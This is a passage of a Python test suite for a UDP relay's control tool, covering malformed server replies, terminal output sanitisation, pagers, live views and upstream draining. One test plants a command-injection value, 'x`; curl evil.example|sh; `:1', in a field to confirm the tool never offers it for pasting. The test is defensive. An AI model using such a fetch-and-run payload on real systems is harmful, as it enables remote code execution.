            connection.sendall(b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n[]\r\n')
        self.serve(answer)
        self.assertIn('cut off', self.complaint('sessions'))

    def endless(self, start, piece):
        def answer(server, connection):
            connection.sendall(b'HTTP/1.1 200 OK\r\n' + start)
            with contextlib.suppress(OSError):
                while not server.ended.is_set():
                    connection.sendall(piece * (1 + 65536 // len(piece)))
        return self.serve(answer)

    def check_bounded(self, text, *arguments, seconds=45):
        before = time.monotonic()
        memory = ('prlimit', '--as=1500000000')
        if 'asan' in CTL or os.environ.get('ASAN_OPTIONS'):
            memory = ()  # its shadow takes terabytes of addresses
        self.assertIn(text, self.complaint(*arguments, prefix=memory, timeout=60))
        self.assertLess(time.monotonic() - before, seconds)

    def test_endless_status(self):
        self.endless(b'\r\n{"names": [', b'0,')
        self.check_bounded('larger than any status', 'status')

    def test_endless_session(self):
        self.endless(b'\r\n[{"a": "', b'x')
        self.check_bounded('too large', 'dump')

    def test_endless_sessions(self):
        """Kept as they came: but not all that anybody can send."""
        self.endless(b'\r\n[{"a": 1}', b',{"a": "' + b'x' * 16000 + b'"}')
        self.check_bounded("larger than any relay's", 'sessions', '--json=short')

    def test_nothing_of_a_stranger_s_is_to_be_pasted(self):
        name = {'name': 'relay', 'upstream': 'x`; curl evil.example|sh; `:1', 'upstream_address': None,
                'resolve_error': 'Name or service not known'}
        self.serve(http(json.dumps({'names': [name], 'listeners': []})))
        done = subprocess.run([CTL, f'--socket={self.socket}', 'check'], env=self.env, capture_output=True, text=True,
                              timeout=20, check=False)
        self.assertIn('`getent ahostsv6 NAME`', done.stdout)

    def test_endless_headers(self):
        self.endless(b'', b'X-More: yes\r\n')
        self.check_bounded('endless headers', 'status', seconds=15)

    def test_too_many_headers(self):
        """Less than libcurl itself would bear"""
        self.serve(http('{"names": [], "listeners": []}', headers='X-More: yes\r\n' * 8000))
        self.assertIn('endless headers', self.complaint('status'))

    def test_endless_sessions(self):
        self.endless(b'\r\n[{}', b',{}')
        self.check_bounded('more sessions than there can be', 'dump')

    def test_missing_and_wrong_keys(self):
        rows = [{}, {'client_address': 5, 'client_port': 'x', 'created': 'yesterday', 'state': None},
                {'client_address': 'x' * 1000, 'client_port': -1, 'created': '9' * 1000, 'session_id': 'y' * 1000,
                 'listener': 'ä' * 900, 'upstream_local_address': ':' * 1000, 'client_to_upstream_bytes': 2**63 - 1,
                 'upstream_to_client_bytes': 2**63 - 1},
                {'created': '0000-00-00T00:00:00Z', 'client_to_upstream_bytes': 1.5, 'client_port': 2**62}]
        self.serve(http(json.dumps(rows)))
        for sort in 'bytes', 'age', 'idle', 'client':
            self.assertEqual(len(self.dump(f'--sort={sort}')), 4)
            self.assertIn('4 sessions.', self.out('sessions', f'--sort={sort}'))
        self.assertEqual(json.loads(self.out('sessions', '--json=pretty')), rows)
        self.assertEqual(set(self.dump()[0].values()), {'-', '0'})

    def test_status_with_holes(self):
        for part in ({}, 1, None, [], 'x', {'name': None, 'listener': 7, 'client_to_upstream': {'drops': [1], 'datagrams': -5},
                                            'reply_age_seconds': 1e300, 'resolved_age_seconds': -1, 'upstream': 'a:b',
                                            'upstream_address': '['},
                     {'upstream_address': '[' + ':' * 4000, 'name': 'n' * 4000, 'upstream': 'u' * 4000, 'listener': 'x:' + '9' * 4000,
                      'client_to_upstream': {'received': 2**63 - 1, 'datagrams': 2**63 - 1,
                                             'drops': {'bad_source': 2**63 - 1, 'no_route': 2**63 - 1, 'd' * 4000: 5}}},
                     {'upstream_address': '[::1%' + 'z' * 90 + ']:1', 'upstream': 'x', 'name': ''}):
            with self.subTest(part=str(part)[:60]):
                if os.path.exists(self.socket):
                    os.unlink(self.socket)
                server = Server(self.socket, http(json.dumps({'names': [part, part], 'listeners': [part, part],
                                                              'uptime_seconds': part, 'version': part})))
                try:
                    for command in ['status'], ['check'], ['check', '--json=pretty'], ['status', '--json=short'], ['drain']:
                        done = subprocess.run([CTL, f'--socket={self.socket}', *command], env=self.env, capture_output=True,
                                              timeout=20, check=False)
                        self.assertIn(done.returncode, (0, 3, 4), done)
                        self.assertEqual(done.stderr, b'')
                        if len(command) > 1:
                            json.loads(done.stdout)
                finally:
                    server.close()

    def test_nothing_reaches_the_terminal(self):
        evil = 'a\x1b[31mb\tc\nd\x9be\u202ef\x7f\u3164\u3000\U000e0041漢'
        session = {key: evil for key in ('session_id', 'listener', 'client_address', 'state', 'created',
                                         'upstream_local_address', 'upstream_remote_address')}
        upstream = {'upstream': evil, 'address': evil, 'state': evil, 'drained': True, 'chosen': 5, 'sessions': evil}
        name = {'upstreams': [upstream, upstream, 7], 'name': evil, 'upstream': evil, 'upstream_address': evil, 'resolve_error': evil, 'listener': evil,
                'client_to_upstream': {'drops': {evil: 7}, 'received': 1}}
        status = {'version': evil, 'names': [name], 'listeners': [name]}

        def answer(server, connection):
            path = server.requests[-1]
            http(json.dumps([session] if 'sessions' in path else status) if 'debug' in path else evil)(server, connection)
        self.serve(answer)
        for command in ['status'], ['sessions'], ['dump'], ['top'], ['check'], ['check', '--json=pretty'], ['sessions', '--json=short'], \
                ['drain'], ['drain', '--json=pretty']:
            with self.subTest(command):
                done = subprocess.run([CTL, f'--socket={self.socket}', *command], env=self.env, capture_output=True,
                                      timeout=20, check=False)
                text = (done.stdout + done.stderr).decode()
                self.assertEqual(re.findall('[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u3000-\U000fffff]', text), [])
                if command == ['dump']:
                    self.assertEqual({line.count('\t') for line in text.splitlines()}, {12})
        screen = self.screen('metrics', '--no-pager')
        self.assertEqual(screen.wait(), 0)
        self.assertNotIn('\x1b', screen.read())
        self.assertIn('\\x1b[31m', screen.read())


class Terminal(CtlTest):
    def setUp(self):
        super().setUp()
        self.home = self.upstream(answer=lambda data: data)
        self.port, = self.begin(self.home)
        self.env['PAGER'] = 'cat'

    def colored(self, *arguments, **env):
        screen = self.screen('status', *arguments, **env)
        self.assertEqual(screen.wait(), 0, screen.text)
        return '\033[' in screen.read()

    def test_colors(self):
        self.assertTrue(self.colored())
        self.assertFalse(self.colored(NO_COLOR='1'))
        self.assertTrue(self.colored(NO_COLOR=''))
        self.assertFalse(self.colored(TERM='dumb'))
        self.assertFalse(self.colored(SYSTEMD_COLORS='0'))
        self.assertTrue(self.colored(SYSTEMD_COLORS='1', NO_COLOR='1'))
        self.assertFalse(self.colored('--color=never'))
        self.assertTrue(self.colored('--color=always', NO_COLOR='1', TERM='dumb'))
        self.assertNotIn('\033', self.out('status'))
        self.assertIn('\033', self.out('status', '--color=always'))
        self.assertIn('\033', self.out('status', SYSTEMD_COLORS='true'))
        self.assertNotIn('\033', self.out('status', SYSTEMD_COLORS='auto-256'))

    def paged(self, *arguments, **env):
        """What the pager's script saw, or None"""
        seen = pathlib.Path(self.directory, 'paged')
        seen.unlink(missing_ok=True)
        self.script('pager-of-ours', f'echo "$LESS $LESSSECURE" >{seen}; cat >>{seen}; cat {seen}\n')
        screen = self.screen(*arguments, **env)
        self.assertEqual(screen.wait(), 0, screen.text)
        return seen.read_text() if seen.exists() else None

    def test_pager(self):
        self.clients(self.port, 1)
        ours = {'PAGER': 'pager-of-ours'}
        for command in 'status', 'sessions', 'dump', 'metrics':
            with self.subTest(command):
                text = self.paged(command, **ours)
                self.assertIsNotNone(text)
                self.assertTrue(text.startswith('FRSXMK 1\n'))
                self.assertGreater(len(text.splitlines()), 2)
        self.assertIn('\033[', self.paged('status', **ours), 'colours go through it')
        self.assertIsNone(self.paged('status', '--no-pager', **ours))
        self.assertIsNone(self.paged('check', '--no-pager', **ours))
        self.assertIsNone(self.paged('status', SYSTEMD_PAGER='', **ours))
        self.assertIsNotNone(self.paged('status', PAGER='cat', SYSTEMD_PAGER='pager-of-ours -x'))
        self.assertTrue(self.paged('status', SYSTEMD_LESS='FX', **ours).startswith('FX 1\n'))

    def test_no_pager_without_a_terminal(self):
        self.script('pager-of-ours', f'touch {self.directory}/paged; cat\n')
        self.out('status', PAGER='pager-of-ours')
        self.assertFalse(os.path.exists(f'{self.directory}/paged'))

    def test_a_pager_that_leaves(self):
        self.script('pager-of-ours', 'read line; echo "$line"; exit 1\n')
        self.daemon.kill()
        os.unlink(self.socket)
        self.serve(http('# a line of a long answer\n' * 100000))
        screen = self.screen('metrics', PAGER='pager-of-ours')
        self.assertEqual(screen.wait(), 0)
        self.assertIn('# a line', screen.read())
        self.assertNotIn('udp46ctl:', screen.read())
        done = subprocess.run(f'{CTL} --socket={self.socket} metrics | head -n 1', shell=True, capture_output=True, text=True,
                              timeout=10, check=True)
        self.assertEqual((done.stdout, done.stderr), ('# a line of a long answer\n', ''))
        screen = self.screen('metrics', PAGER='/nonexistent/pager')
        self.assertEqual(screen.wait(), 0)

    def test_no_pager_for_errors(self):
        self.daemon.kill()
        os.unlink(self.socket)
        self.script('pager-of-ours', f'touch {self.directory}/paged; cat\n')
        screen = self.screen('metrics', PAGER='pager-of-ours')
        self.assertEqual(screen.wait(), 1)
        self.assertFalse(os.path.exists(f'{self.directory}/paged'))


class Live(CtlTest):
    """top"""

    def setUp(self):
        super().setUp()
        self.home = self.upstream(answer=lambda data: data)
        self.port, = self.begin(self.home)

    def test_without_a_terminal(self):
        busy, = self.clients(self.port, 3)
        text = self.out('top')
        self.assertNotIn('\033', text)
        self.assertRegex(text, r'^udp46 0.2.0, running for \S+; 1 session \(0 unreplied, peak 1, limit 14116\)\n')
        self.assertIn('\nforward -/s, -/s; reply -/s, -/s; dropped 0 (-/s)\n', text)
        self.assertRegex(text, rf'\n{self.name(busy)} +assured .* 300 B +300 B +- +- ')
        self.assertNotIn('CLIENT', self.out('top', '--no-legend'))

    def clients_of(self, screen):
        return [line.split()[0] for line in screen.frames()[-1] if line.startswith('127.')]

    def test_redraws(self):
        client, = self.clients(self.port, 1)
        screen = self.screen('top', '--interval=200ms', columns=160)
        screen.until(lambda text: len(screen.frames()) >= 2, 'it draws again')
        first = screen.frames()[-1]
        self.assertEqual(self.clients_of(screen), [self.name(client)])
        for _ in range(20):
            self.ask(client, b'x' * 1000)
            time.sleep(0.02)
        screen.until(lambda text: any(re.search(r'forward [1-9]\d*/s, \d+\.\d [kM]B/s', frame[1]) for frame in screen.frames()),
                     'rates are shown')
        self.assertRegex('\n'.join(line for frame in screen.frames() for line in frame),
                         r'\n127\.\S+ +assured .* [kM]?B +[\d.]+ [kM]?B +[1-9][\d.]* [kM]?B +[1-9][\d.]* [kM]?B +127\.')
        self.assertNotEqual(screen.frames()[-1], first)
        self.ask(self.client(self.port))
        screen.until(lambda text: len(self.clients_of(screen)) == 2, 'a new session comes into sight')
        screen.key('q')
        self.assertEqual(screen.wait(1), 0)

    def test_keys(self):
        clients = self.clients(self.port, 2, 5, 1)
        time.sleep(0.01)
        self.ask(clients[0])
        a, b, c = map(self.name, clients)
        screen = self.screen('top', '--interval=1h', '--sort=client', columns=100)
        for key, order in (('', sorted((a, b, c), key=lambda name: int(name.split(':')[1]))), ('b', [b, a, c]),
                           ('i', [b, c, a]), ('a', [a, b, c]), ('b', [b, a, c]),
                           ('c', sorted((a, b, c), key=lambda name: int(name.split(':')[1])))):
            n = len(screen.frames())
            screen.key(key) if key else None
            screen.until(lambda text: len(screen.frames()) > n, f'key {key!r} draws')
            self.assertEqual(self.clients_of(screen), order, key)
        screen.key('q')
        self.assertEqual(screen.wait(1), 0)

    def test_size(self):
        self.clients(self.port, *[1] * 20)
        screen = self.screen('top', '--interval=1h', columns=60, rows=12)
        screen.until(lambda text: screen.frames(), 'a frame')
        self.assertLessEqual(len(screen.frames()[-1]), 12)
        self.assertGreaterEqual(len(self.clients_of(screen)), 7)
        self.assertLessEqual(max(map(len, screen.frames()[-1])), 60)
        n = len(screen.frames())
        screen.resize(200, 40)
        screen.until(lambda text: len(screen.frames()) > n, 'a resize draws')
        self.assertEqual(len(self.clients_of(screen)), 20)
        self.assertGreater(max(map(len, screen.frames()[-1])), 100)
        for columns, rows in (1, 1), (5, 2), (10, 4), (10, 5), (3, 50):
            n = len(screen.frames())
            screen.resize(columns, rows)
            screen.until(lambda text: len(screen.frames()) > n, 'a resize draws')
            self.assertLessEqual(max(map(len, screen.frames()[-1])), columns)
            if rows >= 3:
                self.assertLessEqual(len(screen.frames()[-1]), rows)

    def test_the_terminal_is_given_back(self):
        for end in 'q', '\x03', signal.SIGTERM, signal.SIGHUP:
            with self.subTest(end=end):
                screen = self.screen('top', '--interval=1h')
                screen.until(lambda text: screen.frames(), 'a frame')
                self.assertNotEqual(termios.tcgetattr(screen.slave)[3], screen.before[3])
                if isinstance(end, str):
                    screen.key(end)
                else:
                    screen.process.send_signal(end)
                self.assertEqual(screen.wait(1), 0)
                self.assertEqual(termios.tcgetattr(screen.slave), screen.before)
                self.assertTrue(screen.read().endswith('\033[?25h\033[?1049l'))

    def test_a_relay_that_ends(self):
        screen = self.screen('top', '--interval=100ms')
        screen.until(lambda text: screen.frames(), 'a frame')
        self.daemon.kill()
        os.unlink(self.socket)
        self.assertEqual(screen.wait(5), 1)
        self.assertIn('udp46ctl: ' + self.socket, screen.read().split('\033[?1049l')[-1])
        self.assertEqual(termios.tcgetattr(screen.slave), screen.before)

    def test_a_server_that_hangs(self):
        """Whoever wants to go need not wait for it."""
        self.daemon.kill()
        os.unlink(self.socket)
        server = self.serve(lambda server, connection: server.ended.wait(20))
        screen = self.screen('top')
        world.wait_until(lambda: server.requests)
        screen.key('\x03')
        self.assertEqual(screen.wait(3), 0)
        self.assertEqual(termios.tcgetattr(screen.slave), screen.before)
        server.ended.set()


class Drain(CtlTest):
    """Upstreams taken out and back; systemctl is one that reloads this relay"""

    FILE = pathlib.Path('/run/udp46/drained')

    def setUp(self):
        super().setUp()
        self.addCleanup(shutil.rmtree, self.FILE.parent, ignore_errors=True)
        self.homes = [self.upstream(answer=lambda data: data) for _ in range(3)]
        self.names = [home.name for home in self.homes]
        self.port, _ = self.begin(None, n=2, config='[Relay]\n' + ''.join(f'Upstream={name}\n' for name in self.names)
                                  + f'[Relay office]\nUpstream={self.names[2]}\n')
        self.systemctl(f'kill -HUP {self.daemon.process.pid}')

    def systemctl(self, text):
        self.script('systemctl', f'[ "$*" = "reload udp46.service" ] || exit 9\necho >>{self.directory}/reloads\n{text}\n')

    def reloads(self):
        path = pathlib.Path(self.directory, 'reloads')
        return len(path.read_text().splitlines()) if path.exists() else 0

    def rows(self, *arguments, **kwargs):
        """{name: (chosen, drained, sessions)} of the listeners named relay"""
        rows = json.loads(self.out(*arguments, '--json=short', **kwargs))
        return {row['upstream']: (row['chosen'], row['drained'], row['sessions']) for row in rows if row['name'] == 'relay'}

    def test_drain_and_undrain(self):
        one, two, three = self.names
        client, = self.clients(self.port, 2)
        self.assertEqual(self.rows('drain', one), {one: (False, True, 1), two: (True, False, 0), three: (False, False, 0)})
        self.assertEqual(self.FILE.read_text(), one + '\n')
        self.assertEqual(self.FILE.stat().st_mode & 0o7777, 0o644)
        self.assertEqual(self.FILE.parent.stat().st_mode & 0o7777, 0o755)
        self.ask(client, b'moves')
        self.assertIsNotNone(self.homes[1].leg_of(b'moves'))
        self.assertEqual(self.rows('drain'), {one: (False, True, 0)})
        self.assertEqual(self.rows('undrain', one), {one: (True, False, 0), two: (False, False, 1), three: (False, False, 0)})
        self.assertFalse(self.FILE.exists())
        self.assertEqual(os.listdir(self.FILE.parent), ['.drained.lock'])
        self.assertEqual(self.rows('drain'), {})

    def test_as_text(self):
        one, two, _ = self.names
        self.clients(self.port, 1)
        self.assertEqual(self.out('drain'), 'No upstream is drained.\n')
        self.assertEqual(self.out('drain', '--no-legend'), '')
        text = self.out('drain', one)
        self.assertRegex(text, r'^UPSTREAM +LISTENERS +STATE +DRAINED +CHOSEN +SESSIONS\n')
        self.assertRegex(text, rf'(?m)^{re.escape(one)} +relay +\w+ +yes +no +1$')
        self.assertRegex(text, rf'(?m)^{re.escape(two)} +relay +\w+ +no +yes +0$')
        self.assertTrue(text.endswith('\n\n1 session on what is drained.\n'))
        self.assertEqual(len(self.out('drain').splitlines()), 4)
        self.assertEqual(len(self.out('drain', '--no-legend').splitlines()), 1)
        status = self.out('status')
        self.assertRegex(status, rf'\n +Number 1: {re.escape(one)}, \w+, drained, 1 session, last reply \S+ ago\n +Number 2: {re.escape(two)}, '
                                 r'unknown, chosen, 0 sessions\n +Number 3: ')
        self.assertEqual(status.count('Number 1'), 1)  # nor is one alone numbered

    def test_a_list_with_nul_bytes(self):
        one, two, three = self.names
        self.FILE.parent.mkdir()
        self.FILE.write_bytes(f'{one}\n#a\0b\n#c\0d\n{two}'.encode())
        self.out('undrain', two)
        self.assertEqual(self.FILE.read_text(), f'{one}\n#a?b\n#c?d\n')

    def test_a_list_that_is_too_long_already(self):
        one, _, three = self.names
        self.FILE.parent.mkdir()
        self.FILE.write_text('#' * (256 * 1024 - 1) + '\n')
        self.assertIn('too large for such a list', self.complaint('drain', one))
        self.assertEqual(self.FILE.stat().st_size, 256 * 1024)
        self.FILE.write_text('#' * (256 * 1024 + 1))
        self.assertIn('too large for such a list', self.complaint('undrain', one))
        self.out('undrain', '--all')
        self.assertFalse(self.FILE.exists())

    def test_who_may_read_it_cannot_keep_anybody_from_it(self):
        self.out('drain', self.names[0])
        holder = subprocess.Popen(['setpriv', '--reuid=65534', '--clear-groups', 'flock', str(self.FILE.parent), 'sleep', '60'])
        self.addCleanup(holder.wait)
        self.addCleanup(holder.kill)
        time.sleep(0.3)
        self.out('undrain', self.names[0])
        self.assertEqual(self.FILE.parent.joinpath('.drained.lock').stat().st_mode & 0o777, 0o600)

    def test_somebody_else_is_at_it(self):
        self.out('drain', self.names[0])
        with open(self.FILE.parent / '.drained.lock', 'rb') as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            self.assertIn('another udp46ctl is changing it', self.complaint('undrain', self.names[0]))

    def test_the_last_one_by_the_list(self):
        """The relay has not heard yet that the others are drained."""
        one, two, three = self.names
        self.systemctl('echo busy >&2; exit 1')
        for name in one, two:
            self.assertIn('is written, but systemd does not reload', self.complaint('drain', name))
        self.assertIn('neither drained nor down', self.complaint('drain', three))
        self.assertEqual(self.FILE.read_text(), f'{one}\n{two}\n')

    def test_under_any_umask(self):
        self.out('drain', self.names[0], prefix=('sh', '-c', 'umask 077; exec "$@"', 'sh'))
        self.assertEqual([path.stat().st_mode & 0o777 for path in (self.FILE.parent, self.FILE)], [0o755, 0o644])

    def test_what_stands_there_stays(self):
        one, two, three = self.names
        self.FILE.parent.mkdir()
        self.FILE.write_text(f'# by hand\n  {two}\nnonsense:\n[2001:db8::9]')
        self.out('drain', one)
        self.assertEqual(self.FILE.read_text(), f'# by hand\n  {two}\nnonsense:\n[2001:db8::9]\n{one}\n')
        self.out('drain', one.replace('::', '0:0::'))  # the same
        self.assertEqual(self.FILE.read_text().count('\n'), 5)
        self.out('undrain', '[2001:db8:0::9]', two)
        self.assertEqual(self.FILE.read_text(), f'# by hand\nnonsense:\n{one}\n')
        self.assertEqual([drained for _, drained, _ in self.rows('undrain', '--all').values()], [False] * 3)
        self.assertFalse(self.FILE.exists())

    def test_nothing_to_do_is_no_reload(self):
        self.out('drain', self.names[0])
        self.out('drain', self.names[0])
        self.assertEqual(self.reloads(), 1)
        self.out('undrain', self.names[1])
        self.assertEqual(self.reloads(), 1)

    def test_refused(self):
        one, two, three = self.names
        err = self.complaint('drain', one, '[2001:db8::1]:51820')
        self.assertIn(f'[2001:db8::1]:51820: no listener has this upstream, but {one}, {two}, {three}\n', err)
        self.assertIn('no listener has this upstream', self.complaint('undrain', '[2001:db8::1]:51820'))
        self.assertIn('--force', self.complaint('drain', one, two, three))
        self.assertIn('listeners named office', self.complaint('drain', three))
        self.assertFalse(self.FILE.exists())
        self.assertEqual(self.reloads(), 0)
        self.out('drain', one)
        self.assertEqual([drained for _, drained, _ in self.rows('drain', '--force', two, three).values()], [True] * 3)
        self.out('drain', one)  # is drained: nobody loses anything by that
        self.clients(self.port, 1)  # for there is no other

    def test_one_that_is_down_is_nowhere_to_go(self):
        """Nor is one without an address."""
        with open(self.config_path, 'w', encoding='utf-8') as file:
            file.write('[Relay]\n' + ''.join(f'Upstream={name}\n' for name in (*self.names[:2], 'nowhere.test:1'))
                       + 'FailoverTimeoutSec=3s\nFailbackDelaySec=1h\n[Relay office]\n')
        self.daemon.signal(signal.SIGHUP)
        self.daemon.wait_line('configuration reloaded')
        self.homes[0].answer = lambda data: None
        client = self.client(self.port)

        def is_left():
            client.send(b'?')
            time.sleep(0.1)
            status = json.loads(self.out('--json=short'))
            return status['names'][0]['upstreams'][0]['state'] == 'down'
        world.wait_until(is_left, 15)
        self.assertIn('--force', self.complaint('drain', self.names[1]))
        self.out('drain', self.names[0])

    def test_mistakes(self):
        for arguments, text in ((['drain', '192.0.2.1:1'], '192.0.2.1:1: an IPv4 address'), (['undrain'], 'which upstream'),
                                (['undrain', '--all', '[::1]:1'], 'not both'),
                                (['drain', '--all'], '--all: not for the command drain'),
                                (['undrain', '--all', '--force'], '--force: not for the command undrain'),
                                (['drain', *(f'[::1]:{i + 1}' for i in range(65))], 'more than 64 upstreams')):
            self.assertIn(text, self.complaint(*arguments, status=2))
        self.assertIn('not for the command drain', self.complaint('drain', '--url=http://127.0.0.1:1', where=False, status=2))

    def test_only_root(self):
        os.chmod(self.socket, 0o666)
        copy = shutil.copy(CTL, self.bin)
        self.FILE.parent.mkdir(mode=0o755)
        nobody = {'prefix': ('setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'), 'program': copy}
        self.assertEqual(self.out('drain', **nobody), 'No upstream is drained.\n')
        self.assertIn('/run/udp46/drained: Permission denied. Only root', self.complaint('drain', self.names[0], **nobody))
        self.assertEqual(os.listdir(self.FILE.parent), [])

    def test_without_systemd(self):
        self.systemctl('echo "System has not been booted with systemd as init system" >&2; exit 1')
        err = self.complaint('drain', self.names[0])
        self.assertIn('(System has not been booted', err)
        self.assertIn('send the relay SIGHUP', err)
        self.daemon.signal(signal.SIGHUP)
        self.daemon.wait_line('upstream is drained')
        self.assertTrue(self.rows('drain', self.names[0])[self.names[0]][1])

    def test_a_relay_that_does_not_take_it(self):
        self.systemctl('exit 0')
        begin = time.monotonic()
        self.assertIn('has not taken over', self.complaint('drain', self.names[0]))
        self.assertLess(time.monotonic() - begin, 10)

    def test_a_file_that_is_none(self):
        self.FILE.parent.mkdir()
        os.mkfifo(self.FILE)
        self.assertIn('not a regular file', self.complaint('drain', self.names[0]))
        self.assertTrue(self.FILE.exists())

    def test_several_at_once(self):
        """None takes back what another one has written."""
        self.FILE.parent.mkdir()
        lock = os.open(self.FILE.parent / '.drained.lock', os.O_RDWR | os.O_CREAT, 0o600)
        fcntl.flock(lock, fcntl.LOCK_EX)
        running = subprocess.Popen([CTL, f'--socket={self.socket}', 'drain', self.names[0]], env=self.env,
                                   stdout=subprocess.DEVNULL)
        time.sleep(0.5)
        self.assertIsNone(running.poll())
        self.FILE.write_text(self.names[1] + '\n')
        os.close(lock)
        self.assertEqual(running.wait(20), 0)
        self.assertEqual(self.FILE.read_text(), f'{self.names[1]}\n{self.names[0]}\n')


class Check(CtlTest):
    """Each step made to fail, by the real thing where that can be had here"""

    def check(self, first, *arguments, **env):
        """All steps by name; the first one that fails is this one (None: none does)."""
        text, _ = self.ctl('check', '--json=short', *arguments, status=4 if first else 0, **env)
        report = json.loads(text)
        steps = {step['step']: step for step in report['steps']}
        self.assertEqual(list(steps), STEPS)
        self.assertEqual(report['first_failure'], first, text)
        for step in steps.values():
            self.assertIn(step['result'], ('ok', 'fail', 'unknown'))
            self.assertTrue(step['fact'])
            if step['step'] not in ('arriving', 'kept') or step['result'] == 'ok':  # where something is suspected only
                self.assertEqual(bool(step['remedy']), step['result'] == 'fail', step)
        if first:
            self.assertEqual(report['remedy'], steps[first]['remedy'])
        return steps

    def systemd(self, exec_start=None, **states):
        """A systemctl that knows these units"""
        lines = []
        for unit, state in {'socket': 'active', 'service': 'active', **states}.items():
            lines += [f'"udp46.{unit} ActiveState") echo "ActiveState={state}";;',
                      f'"udp46.{unit} LoadState") echo "LoadState={"not-found" if state == "missing" else "loaded"}";;']
        command = exec_start or f'{world.BINARY} --config {self.config_path}'
        lines.append(f'"udp46.service ExecStart") echo "ExecStart={{ path={world.BINARY} ; argv[]={command} ; ignore_errors=no }}";;')
        lines.append('"udp46.socket IPAddressDeny") echo "IPAddressDeny=$DENY";;')
        lines.append('"udp46.service NFileDescriptorStore") echo "NFileDescriptorStore=${STORED-3}";;')
        self.script('systemctl', '[ "$1 $2 $4" = "show --property --" ] || exit 9\ncase "$5 $3" in\n' + '\n'.join(lines)
                    + '\n*) exit 1;; esac\n')

    def relay_that_works(self):
        home = self.upstream(answer=lambda data: data)
        port, = self.begin(home, config=f'[Relay]\nUpstream={home.name}\n')
        self.clients(port, 2)
        return port, home

    def test_all_good(self):
        self.systemd()
        port, home = self.relay_that_works()
        steps = self.check(None)
        self.assertEqual({step['result'] for step in steps.values()}, {'ok'}, steps)
        self.assertIn(f'127.0.0.1:{port} (relay)', steps['listening']['fact'])
        self.assertEqual(steps['arriving']['fact'], '2 datagrams received')
        self.assertRegex(steps['reachable']['fact'], r'^2 datagrams sent to \S+, and no error came back in the last \d+\w+$')
        self.assertRegex(steps['limits']['fact'], r'^1 of 14116 sessions taken, and nothing dropped in the last \d+\w+$')
        text = self.out('check')
        self.assertTrue(text.endswith('\nAll steps pass.\n'), text)
        self.assertEqual([line.split()[:2] for line in text.splitlines()[:12]], [['ok', step] for step in STEPS])
        self.assertEqual(len(self.out('check', '--no-legend').splitlines()), 12)
        self.assertEqual(json.loads(self.out('check', '--json=pretty'))['first_failure'], None)

    def test_without_systemd(self):
        self.relay_that_works()
        self.script('systemctl', 'echo "System has not been booted with systemd as init system"; exit 1\n')
        steps = self.check(None)
        self.assertEqual([steps[step]['result'] for step in STEPS[:4]], ['unknown'] * 3 + ['ok'])
        self.assertIn('No step fails; 4 are unknown.', self.out('check'))

    def test_a_systemctl_that_hangs(self):
        self.relay_that_works()
        self.script('systemctl', 'exec sleep 60\n')
        before = time.monotonic()
        self.check(None, timeout=40)
        self.assertLess(time.monotonic() - before, 30)

    def test_socket(self):
        self.relay_that_works()
        self.systemd(socket='inactive')
        self.assertIn('enable --now udp46.socket', self.check('socket')['socket']['remedy'])
        text, _ = self.ctl('check', status=4)
        self.assertRegex(text, r'\nThe first step that fails: socket\. [A-Z].*\.\n\Z')
        self.systemd(socket='inactive', service='failed')
        text, _ = self.ctl('check', status=4)
        self.assertRegex(text, r'\nThe first step that fails: socket\. [A-Z].*\.\nThen fails: service\. See why .*\.\n\Z')
        self.systemd(socket='failed')
        self.assertIn('journalctl -u udp46.socket', self.check('socket')['socket']['remedy'])
        self.systemd(socket='missing', service='missing')
        self.assertEqual(self.check(None)['socket']['fact'], 'udp46.socket is not installed')

    def test_configuration(self):
        self.relay_that_works()
        self.systemd()
        self.write_config('[Relay]\nUpstream=nonsense:\n')
        self.assertIn(f'{self.config_path}:2: Upstream=nonsense', self.check('configuration')['configuration']['fact'])
        self.systemd(f'{world.BINARY} --config /dev/null')
        self.assertIn('Upstream=', self.check('configuration')['configuration']['fact'])
        self.systemd(f'{world.BINARY} --config /dev/null --upstream [::1]:1')
        self.check(None)
        self.systemd('/usr/bin/true')
        self.assertEqual(self.check(None)['configuration']['result'], 'unknown')
        self.systemd('/nonexistent/udp46')
        self.assertEqual(self.check(None)['configuration']['result'], 'unknown')

    def test_a_configuration_with_mistakes_while_the_relay_works(self):
        """Nothing is to be started."""
        self.relay_that_works()
        self.write_config('[Relay]\nUpstream=nonsense:\n')
        for state, word in ('active', 'reload'), ('inactive', 'start'), ('failed', 'start'):
            with self.subTest(state):
                self.systemd(service=state)
                remedy = self.check('configuration')['configuration']['remedy']
                self.assertIn(f'`udp46 --check-config && systemctl {word} udp46.service`', remedy)
                self.assertEqual('works with what it read before' in remedy, state == 'active')

    def test_kept(self):
        """Three descriptors for each worker; more while it takes over"""
        self.systemd()
        port, home = self.relay_that_works()
        for stored, result in ('3', 'ok'), ('6', 'ok'), ('0', 'unknown'), ('2', 'unknown'), ('', 'unknown'), ('x', 'unknown'):
            with self.subTest(stored):
                step = self.check(None, STORED=stored)['kept']
                self.assertEqual(step['result'], result)
                self.assertEqual('FileDescriptorStoreMax=' in (step['remedy'] or ''), stored in ('0', '2'))
        self.assertIn('holds 0 descriptors of 3', self.check(None, STORED='0')['kept']['fact'])
        self.assertIn('\nNot known: kept. If they shall, ', self.out('check', STORED='0'))
        self.daemon.kill()
        os.unlink(self.socket)
        self.fake_status(workers=4)
        self.assertIn('holds 3 descriptors of 12', self.check(None)['kept']['fact'])

    def test_a_configuration_that_may_not_be_read(self):
        self.systemd('/fake/udp46')
        self.relay_that_works()
        fake = os.path.join(self.bin, 'udp46')
        self.script('udp46', 'echo "configuration error: /etc/udp46/udp46.conf: Permission denied" >&2; exit 2\n')
        self.systemd(fake)
        step = self.check(None)['configuration']
        self.assertEqual((step['result'], step['fact']),
                         ('unknown', 'configuration error: /etc/udp46/udp46.conf: Permission denied'))

    def test_service(self):
        self.relay_that_works()
        self.systemd(service='failed')
        self.assertIn('journalctl -u udp46.service', self.check('service')['service']['remedy'])
        self.systemd(service='inactive')
        self.assertEqual(self.check(None)['service']['result'], 'unknown')

    def test_http(self):
        steps = self.check('http')
        self.assertIn('no such socket', steps['http']['fact'])
        self.assertIn('--socket=', steps['http']['remedy'])
        self.assertEqual({steps[step]['result'] for step in STEPS[4:]}, {'unknown'})

    def test_listening(self):
        self.serve(http(json.dumps({'listeners': [], 'names': [], 'version': '1'})))
        self.check('listening')

    def test_arriving(self):
        """Nobody is blamed in the first minute, but the remedy is told."""
